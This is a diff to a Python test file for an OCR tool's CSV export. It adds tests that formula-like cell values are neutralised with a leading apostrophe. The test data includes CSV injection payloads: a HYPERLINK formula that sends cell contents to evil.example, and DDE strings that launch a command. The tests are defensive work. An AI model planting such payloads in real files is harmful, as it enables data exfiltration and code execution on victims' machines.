@@ -4,7 +4,7 @@ import csv
 import io
 import json
 import zipfile
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from datetime import UTC, datetime
 
 import pytest
@@ -298,8 +298,43 @@ def test_whatever_lines_say_every_format_says_it_again(
     words = parsed("hocr", given_page).findall(".//span[@class='ocrx_word']", HTML)
     assert [word.text for word in words] == said
     records = csv.reader(io.StringIO(written("csv", given_page).decode(), newline=""))
-    told = sorted(word for record in records for cell in record for word in cell.split())
-    assert told == sorted(word for part in said for word in part.split())
+    assert _words(cell for record in records for cell in record) == _words(said)
+
+
+def _words(texts: Iterable[str]) -> list[str]:
+    """In order, without apostrophes before them: one stands before what would be a formula."""
+    words = (word.lstrip("'") for text in texts for word in text.split())
+    return sorted(filter(None, words))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Total")',
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "-5-3",
+        "+49-30-1234",
+        "- Tea",
+        "＝1+1",
+    ],
+)
+def test_what_a_spreadsheet_would_compute_stays_text(text: str) -> None:
+    (record,) = csv.reader(io.StringIO(written("csv", page(line(text, 1))).decode(), newline=""))
+
+    assert record == [f"'{text}"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["-5.00", "-5,00 €", "+49 30 1234", "- 1'234.50", "-$2.50", "-12 %", "-", "5-3", "a=b", "'tis"],
+)
+def test_figures_and_other_text_are_left_as_they_are(text: str) -> None:
+    (record,) = csv.reader(io.StringIO(written("csv", page(line(text, 1))).decode(), newline=""))
+
+    assert record == [text]
 
 
 def test_the_font_that_is_not_seen_has_every_letter() -> None:
